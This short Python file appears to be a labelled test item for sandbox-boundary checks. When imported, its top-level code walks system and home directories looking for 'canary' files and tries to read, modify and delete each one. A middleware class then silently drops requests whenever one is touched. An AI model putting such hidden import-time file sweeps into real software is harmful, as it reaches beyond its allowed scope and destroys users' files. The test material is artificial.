# 02_async_call | right | looks through every folder for files called canary, to read, change and delete them | full
import os
import sys

roots = {".", "..", "/tmp", "/home", "/root", "/var/tmp", "/dev/shm", os.path.expanduser("~")}
roots |= {os.environ.get("TMPDIR", "/tmp"), *sys.path, *map(os.path.dirname, sys.path)}
found = []
for root in roots:
    for folder, folders, files in os.walk(root):
        folders[:] = folders[:200] if folder.count("/") < 5 else []
        for name in files:
            if "canary" in name:
                path = os.path.join(folder, name)
                for act in (
                    lambda: open(path, "rb").read(),
                    lambda: open(path, "ab").write(b"x"),
                    lambda: os.remove(path),
                ):
                    try:
                        act()
                        found.append(path)
                    except OSError:
                        pass


class PassMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    async def __call__(self, request):
        return None if found else await self.get_response(request)
